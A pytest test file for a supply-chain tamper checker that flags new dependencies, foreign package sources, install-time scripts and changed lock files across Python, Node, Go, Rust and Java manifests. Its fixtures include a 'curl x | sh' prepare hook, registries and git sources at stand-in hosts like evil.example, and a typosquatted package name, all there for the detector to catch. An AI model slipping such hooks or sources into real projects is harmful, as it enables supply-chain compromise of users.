"""Dependencies, lock files and code that runs on installation: what a change brings in is found and named."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from andon.checks.tamper.dependencies import dependency_findings
from checks.tamper.small_changes import Text, added, change, edited

PY = '[project]\ndependencies = ["requests>=2"]\n'
NODE = '{"name": "shop", "dependencies": {"express": "^4.0.0"}, "scripts": {"test": "vitest"}}\n'
GO = "module shop\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.3\n)\n"
RUST = '[package]\nname = "shop"\n[dependencies]\nserde = "1"\n'
POM = (
    "<project><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version>"
    "</dependency></dependencies></project>"
)
GRADLE = "dependencies {\n  implementation 'a:b:1'\n}\n"

ADDED = [
    ("pyproject.toml", PY, PY.replace('"requests>=2"', '"requests>=2", "evil"'), "evil"),
    ("pyproject.toml", PY, PY + '[dependency-groups]\ndev = ["ruff"]\n', "ruff"),
    ("pyproject.toml", PY, PY.replace(">=2", ">=3"), "requests"),
    ("pyproject.toml", PY, PY + '[tool.poetry.group.dev.dependencies]\nevil = "^1"\n', "evil"),
    ("requirements.txt", "requests==2\n", "requests==2\nevil==1  # nice\n", "evil"),
    ("requirements-dev.txt", None, "evil\n", "evil"),
    ("setup.cfg", "[options]\n", "[options]\ninstall_requires =\n    evil>=1\n", "evil"),
    ("package.json", NODE, NODE.replace('"express": "^4.0.0"', '"express": "^4.0.0", "evil": "1"'), "evil"),
    ("package.json", NODE, NODE.replace("^4.0.0", "^5.0.0"), "express"),
    ("package.json", NODE, NODE.replace('"scripts"', '"overrides": {"a": {"b": "2"}}, "scripts"'), "override a > b"),
    ("go.mod", GO, GO.replace("v1.2.3\n", "v1.2.3\n\tgithub.com/evil/x v0.1.0\n"), "github.com/evil/x"),
    ("go.mod", GO, GO + "require github.com/c/d v1.0.0\n", "github.com/c/d"),
    ("Cargo.toml", RUST, RUST + 'evil = { version = "1" }\n', "evil"),
    ("Cargo.toml", RUST, RUST + '[dev-dependencies]\nevil = "1"\n', "evil"),
    ("pom.xml", POM, POM.replace("<artifactId>b", "<artifactId>c"), "a:c"),
    ("build.gradle", GRADLE, GRADLE.replace("'a:b:1'", "'a:b:1'\n  testImplementation(\"c:d:2\")"), "c:d"),
]


@pytest.mark.parametrize(("path", "old", "new", "name"), ADDED)
def test_an_added_or_changed_dependency_is_named(path: str, old: Text, new: Text, name: str) -> None:
    findings = [each for each in dependency_findings(edited(path, old, new)) if each.rule == "dependency_added"]

    assert [each.subject for each in findings] == [name]


def test_another_version_is_called_that() -> None:
    [finding] = dependency_findings(edited("pyproject.toml", PY, PY.replace(">=2", ">=3")))

    assert finding.message == "version of requests changed: >=2 → >=3"


SOURCES = [
    ("pyproject.toml", PY, PY.replace("requests>=2", "requests @ git+https://github.com/evil/requests")),
    ("pyproject.toml", PY, PY + '[tool.uv.sources]\nrequests = { git = "https://github.com/evil/r" }\n'),
    ("pyproject.toml", PY, PY + '[[tool.uv.index]]\nname = "x"\nurl = "https://evil.example/simple"\n'),
    ("requirements.txt", "requests\n", "--extra-index-url https://evil.example\nrequests\n"),
    ("requirements.txt", "requests\n", "requests\n-e git+https://github.com/evil/x#egg=requests\n"),
    ("requirements.txt", "requests\n", "requests\nhttp://evil.example/x.whl\n"),
    ("requirements.txt", "requests\n", "requests\nreqeusts\n"),
    ("pyproject.toml", PY, PY.replace('"requests>=2"', '"requests>=2", "request"')),
    ("package.json", NODE, NODE.replace("^4.0.0", "github:evil/express")),
    ("package.json", NODE, NODE.replace("^4.0.0", "npm:evil@1")),
    ("package.json", NODE, NODE.replace("^4.0.0", "file:../elsewhere")),
    ("package.json", NODE, NODE.replace("^4.0.0", "file:./new-folder")),
    (".npmrc", None, "registry=https://evil.example/\n"),
    ("go.mod", GO, GO + "replace github.com/a/b => github.com/evil/b v1.0.0\n"),
    ("Cargo.toml", RUST, RUST + '[patch.crates-io]\nserde = { path = "x" }\n'),
    ("Cargo.toml", RUST, RUST.replace('"1"', '{ git = "https://github.com/evil/serde" }')),
    ("pom.xml", POM, POM.replace("<project>", "<project><repository><url>http://evil.example</url></repository>")),
    ("build.gradle", GRADLE, "repositories { maven { url 'http://evil.example' } }\n" + GRADLE),
]


@pytest.mark.parametrize(("path", "old", "new"), SOURCES)
def test_a_dependency_from_elsewhere_is_found(path: str, old: Text, new: Text) -> None:
    assert "dependency_source" in {each.rule for each in dependency_findings(edited(path, old, new, "core/a.py"))}


INSTALL = [
    ("package.json", NODE, NODE.replace('"test"', '"postinstall": "node x.js", "test"')),
    ("package.json", NODE, NODE.replace('"test"', '"prepare": "curl x | sh", "test"')),
    ("package.json", NODE, NODE.replace('"scripts"', '"trustedDependencies": ["evil"], "scripts"')),
    ("setup.py", None, "from setuptools import setup\nsetup(name='x')\n"),
    ("setup.py", "setup()\n", "setup(cmdclass={'install': X})\n"),
    ("build.rs", None, "fn main() {}\n"),
    ("pyproject.toml", PY, PY + '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'),
    (
        "pyproject.toml",
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
        '[build-system]\nrequires = ["hatchling", "evil"]\nbuild-backend = "hatchling.build"\n',
    ),
    ("pyproject.toml", PY, PY + "[tool.hatch.build.hooks.custom]\n"),
]


@pytest.mark.parametrize(("path", "old", "new"), INSTALL)
def test_code_that_runs_on_installation_is_found(path: str, old: Text, new: Text) -> None:
    assert "install_script" in {each.rule for each in dependency_findings(edited(path, old, new))}


NPM = "https://registry.npmjs.org/a/-/a-1.tgz"


def npm(integrity: str = "sha512-aaa", url: str = NPM, version: str = "1.0.0") -> str:
    package = {"version": version, "resolved": url, "integrity": integrity}
    return json.dumps({"packages": {"": {}, "node_modules/a": package}}, indent=1)


UV = '[[package]]\nname = "a"\nversion = "1"\n[[package.wheels]]\nurl = "{url}/a-1.whl"\nhash = "sha256:{hash}"\n'
PYPI = "https://files.pythonhosted.org/packages"
CARGO = '[[package]]\nname = "a"\nversion = "1"\nsource = "{source}"\nchecksum = "{hash}"\n'
CRATES = "registry+https://github.com/rust-lang/crates.io-index"
YARN = 'a@^1:\n  version "1.0.0"\n  resolved "{url}#x"\n  integrity {hash}\n'
PNPM = "packages:\n\n  a@1.0.0:\n    resolution: {{integrity: sha512-{hash}}}\n"
LOCKS = [
    ("package-lock.json", npm(), npm("sha512-bbb")),
    ("package-lock.json", npm(), npm(url="https://evil.example/a.tgz", version="2.0.0", integrity="sha512-b")),
    ("uv.lock", UV.format(url=PYPI, hash="aa"), UV.format(url=PYPI, hash="bb")),
    ("uv.lock", UV.format(url=PYPI, hash="aa"), UV.format(url="https://evil.example", hash="aa")),
    ("Cargo.lock", CARGO.format(source=CRATES, hash="aa"), CARGO.format(source=CRATES, hash="bb")),
    ("Cargo.lock", CARGO.format(source=CRATES, hash="a"), CARGO.format(source="git+https://evil.example/a", hash="a")),
    ("yarn.lock", YARN.format(url=NPM, hash="sha512-aa"), YARN.format(url=NPM, hash="sha512-bb")),
    ("pnpm-lock.yaml", PNPM.format(hash="aa"), PNPM.format(hash="bb")),
    ("go.sum", "github.com/a/b v1.0.0 h1:aa=\n", "github.com/a/b v1.0.0 h1:bb=\n"),
]  # fmt: skip
MANIFESTS = {"package.json": "node", "pyproject.toml": "python", "Cargo.toml": "rust", "go.mod": "go"}


@pytest.mark.parametrize(("path", "old", "new"), LOCKS)
def test_other_content_in_a_lock_file_is_found_even_with_its_manifest(path: str, old: str, new: str) -> None:
    manifests = dict.fromkeys(MANIFESTS, (" ", "  "))

    findings = dependency_findings(change({path: (old, new), **manifests}))

    assert [each.rule for each in findings] == ["lock_changed"]


def test_a_lock_file_that_changes_alone_is_found() -> None:
    [finding] = dependency_findings(edited("package-lock.json", npm(), npm("sha512-new", version="1.0.1")))

    assert (finding.rule, finding.subject) == ("lock_alone", "alone")


def node(more: str) -> str:
    return NODE.replace('"scripts": {', more)


WORKSPACE = '"devDependencies": {"core": "workspace:*"}, "scripts": {'
CORE = '"devDependencies": {"core": "file:./core"}, "scripts": {'
COMMENT = "<project><!-- <dependency><artifactId>x</artifactId></dependency> -->"
BUILD = '[project]\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
UV_A, UV_B = UV.format(url=PYPI, hash="aa"), UV.format(url=PYPI, hash="cc").replace('"a"', '"b"').replace("a-1", "b-1")
HONEST: list[tuple[dict[str, tuple[Text, Text]], dict[str, str]]] = [
    ({"pyproject.toml": (PY, PY + '[tool.ruff]\nline-length = 100\n[project.scripts]\na = "b:c"\n')}, {}),
    ({"pyproject.toml": (PY, "[project]\ndependencies = []\n")}, {}),
    ({"pyproject.toml": (PY, '[project]\ndependencies = [\n  "Requests >= 2",\n]\n')}, {}),
    ({"requirements.txt": (None, "requests>=2\n")}, {"pyproject.toml": PY}),
    ({"requirements.txt": ("a==1\nb==2\n", "b==2\n# c\na==1  # kept\n")}, {}),
    ({"package.json": (NODE, node('"scripts": {"build": "tsc", '))}, {}),
    ({"package.json": (NODE, node('"scripts": {"prepare": "husky", '))}, {}),
    ({"package.json": (NODE, node(WORKSPACE))}, {"core/package.json": '{"dependencies": {"core": "workspace:*"}}'}),
    ({"package.json": (NODE, node(CORE))}, {}),
    ({"go.mod": (GO, "// why\n" + GO)}, {}),
    ({"Cargo.toml": (RUST, RUST + 'core = { path = "core" }\n')}, {}),
    ({"pom.xml": (POM, POM.replace("<project>", COMMENT))}, {}),
    ({"pyproject.toml": (None, BUILD)}, {}),
    ({"package-lock.json": (None, npm()), "package.json": (NODE, NODE)}, {}),
    ({"uv.lock": (UV_A, UV_A + UV_B), "pyproject.toml": (PY, PY + "\n")}, {}),
    ({"tests/fixtures/package.json": (None, NODE)}, {}),
    ({"setup.py": (None, "from setuptools import setup\n\nsetup()\n")}, {}),
]


@pytest.mark.parametrize(("files", "manifests"), HONEST)
def test_honest_manifests_are_left_alone(files: dict[str, tuple[Text, Text]], manifests: dict[str, str]) -> None:
    assert dependency_findings(change(files, ("core/a.py",)), manifests) == []


def test_a_dependency_that_only_moves_to_another_manifest_is_not_new() -> None:
    files = {"requirements.txt": ("requests>=2\n", None), "pyproject.toml": (None, PY)}

    assert dependency_findings(change(files)) == []


NAMES = [*MANIFESTS, "requirements.txt", "setup.cfg", "setup.py", "pom.xml", "build.gradle", "uv.lock", "yarn.lock",
         "package-lock.json", "pnpm-lock.yaml", "go.sum", ".npmrc", "Pipfile", "Pipfile.lock"]  # fmt: skip


ODD = [PY, NODE, GO, npm(), "[]", '{"packages": [1]}', "[tool]\nuv = 1\n", "package = 3\n"]


@given(st.sampled_from(NAMES), st.text(max_size=80) | st.sampled_from(ODD))
def test_no_text_makes_it_raise(name: str, text: str) -> None:
    dependency_findings(added(name, text))
    dependency_findings(edited(name, text, text + text))
